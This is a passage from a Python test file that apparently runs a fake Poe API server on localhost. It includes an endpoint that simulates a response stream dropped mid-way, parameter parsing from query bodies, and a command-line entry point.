    async def _drop_endpoint(self, request: Request) -> Response:
        body = await self._record_query("DropMidStream", request)
        params = _params_of(body)
        chunks = range(params.integer("chunks", 2))
        return _DroppingResponse([_nth(params, "dropped {i} ", i) for i in chunks])


def _params_of(body: dict[str, Any] | None) -> _Params:
    """The steering parameters of a raw query body's last user message."""
    messages = [m for m in (body or {}).get("query", []) if isinstance(m, dict)]
    return _Params(RecordedRequest("", {}, messages).parameters)


async def _serve(host: str, port: int) -> None:
    fake = FakePoe(host, port)
    await fake.start()
    print(fake.base_url, flush=True)
    try:
        await fake.serve_forever()
    finally:
        await fake.stop()


def main(argv: Sequence[str] | None = None) -> None:
    """``python tests/fakepoe.py --port N``: serve until killed, URL on stdout first."""
    parser = argparse.ArgumentParser(prog="python tests/fakepoe.py", description=__doc__)
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, default=0, help="0 picks a free port")
    args = parser.parse_args(argv)
    logging.basicConfig(level=logging.WARNING, stream=sys.stderr)
    with contextlib.suppress(KeyboardInterrupt):
        asyncio.run(_serve(args.host, args.port))


if __name__ == "__main__":
    main()
